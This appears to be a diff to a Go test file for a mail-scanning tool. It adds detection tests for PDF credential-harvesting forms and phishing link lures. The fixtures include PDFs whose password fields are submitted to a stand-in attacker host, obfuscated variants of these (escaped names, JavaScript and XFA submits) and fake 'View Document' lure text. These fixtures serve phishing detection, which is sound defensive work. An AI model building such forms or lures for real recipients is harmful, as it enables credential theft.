@@ -139,6 +139,20 @@ func lurePDF(content string) []byte {
 	return formats.TextPDF([]string{"BT /F1 24 Tf 72 780 Td (Norton) Tj ET " + content})
 }
 
+// credForm is a PDF form with a password field that SubmitForm sends to
+// the web.
+const credForm = "%PDF-1.7\n1 0 obj\n<< /FT /Tx /T (password) /Ff 8192 >>\nendobj\n2 0 obj\n<< /S /SubmitForm /F << /FS /URL /F (https://collect.evil.example/p) >> >>\nendobj\n%%EOF\n"
+
+// linkLurePDF is a one-page PDF showing text (a Tj string's inside) with
+// a link annotation to uri.
+func linkLurePDF(text, uri string) []byte {
+	return formats.TextPDF([]string{"BT /F1 16 Tf 72 700 Td (" + text + ") Tj ET"}, linkAnnot(uri))
+}
+
+func linkAnnot(uri string) string {
+	return "<< /Type /Annot /Subtype /Link /Rect [60 600 540 760] /Border [0 0 0] /A << /S /URI /URI (" + uri + ") >> >>"
+}
+
 // --- fakes for pure-logic unit tests ---
 
 type fakeDNSBL struct {
@@ -417,6 +431,30 @@ func TestChecks(t *testing.T) {
 			{"openaction", attach(part("2", pdfWith("/OpenAction 3 0 R"), named("a.pdf"))), "2"},
 			{"embedded file", attach(part("2", pdfWith("/Type /EmbeddedFile"), named("a.pdf"))), "2"},
 			{"uri only", attach(part("2", cleanPDF, named("a.pdf"))), ""},
+		},
+		"pdf-credential-form": {
+			{"password field and SubmitForm", attach(part("2", []byte(credForm), named("a.pdf"))), "2"},
+			{"escaped names, flags with Required", attach(part("2", []byte(strings.NewReplacer("/Ff 8192", "/F#66 8194", "/SubmitForm", "/Subm#69tForm").Replace(credForm)), named("a.pdf"))), "2"},
+			{"field in an object stream", msg(part("2", pdfWith("/S /SubmitForm /F << /FS /URL /F (https://collect.evil.example/p) >>"), named("x.pdf"), container()),
+				text("2/x.pdf/streams", "<< /FT /Tx /T (pw) /Ff 8192 >>", named("streams"))), "2"},
+			{"script's submitForm", attach(part("2", pdfWith(`/FT /Tx /Ff 8192 /AA << /K << /S /JavaScript /JS (this.submitForm\({cURL: "https://collect.evil.example/p"}\)) >> >>`), named("a.pdf"))), "2"},
+			{"XFA", msg(part("2", pdfWith("/XFA 5 0 R"), named("x.pdf"), container()),
+				text("2/x.pdf/streams", `<field name="pw"><ui><passwordEdit/></ui></field><event activity="click"><submit format="urlencoded" target="https://collect.evil.example/x"/></event>`, named("streams"))), "2"},
+			{"no password field", attach(part("2", []byte(strings.Replace(credForm, "/Ff 8192", "/Ff 4096", 1)), named("a.pdf"))), ""},
+			{"to the sender's own site", sentBy("forms@bank.example", attach(part("2", []byte(strings.Replace(credForm, "collect.evil.example", "secure.bank.example", 1)), named("a.pdf")))), ""},
+			{"password field, no submit", attach(part("2", pdfWith("/FT /Tx /T (pin) /Ff 8192"), named("a.pdf"))), ""},
+		},
+		"pdf-link-lure": {
+			{"view document link", attach(part("2", linkLurePDF("Secure Document) Tj 0 -30 Td (You have received a document to review.) Tj 0 -30 Td (VIEW DOCUMENT", "https://docs-share.example/v/8812"), named("Scan_0042.pdf"))), "2"},
+			{"URL in the text only", attach(part("2", formats.TextPDF([]string{"BT /F1 14 Tf 72 700 Td (Click here to view the shared file: https://docs-share.example/v) Tj ET"}), named("Fax.pdf"))), "2"},
+			{"letters one by one", attach(part("2", linkLurePDF("O p e n   D o c u m e n t", "https://docs-share.example/v"), named("a.pdf"))), "2"},
+			{"German", attach(part("2", linkLurePDF("Sie haben ein Dokument erhalten.) Tj 0 -30 Td (Dokument anzeigen", "https://docs-share.example/v"), named("Rechnung.pdf"))), "2"},
+			{"picture only", attach(part("2", formats.TextPDF([]string{"q 595 0 0 842 0 0 cm /Im1 Do Q"}, "<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 1 >>\nstream\n\x80\nendstream", linkAnnot("https://docs-share.example/v")), named("Invoice.pdf"))), "2"},
+			{"link to the sender's own site", sentBy("billing@vendor.example", attach(part("2", linkLurePDF("Click here to view your document", "https://portal.vendor.example/d/1"), named("a.pdf")))), ""},
+			{"the named brand's own site", attach(part("2", linkLurePDF("DocuSign) Tj 0 -30 Td (Review document", "https://app.docusign.com/x"), named("a.pdf"))), ""},
+			{"a long document with a link", attach(part("2", linkLurePDF(strings.Repeat("Quarterly figures and commentary follow. ", 25)+"View document online", "https://reports.example.org/q3"), named("q3.pdf"))), ""},
+			{"a flyer with a link", attach(part("2", linkLurePDF("Summer concert in the park, 7 pm. Tickets and programme", "https://tickets.example.org/summer"), named("flyer.pdf"))), ""},
+			{"pages without a link", attach(part("2", formats.TextPDF([]string{"BT /F1 14 Tf 72 700 Td (Open the document in Word to edit it.) Tj ET"}), named("note.pdf"))), ""},
 		},
 		"callback-phishing": {
 			{"pdf lure", attach(part("2", lurePDF("BT /F1 12 Tf 72 700 Td (Order 4471-2231: $399.99 charged today. If you did not authorize this, call 1-808-555-0199 to cancel.) Tj ET"), named("invoice.pdf"))), "2"},
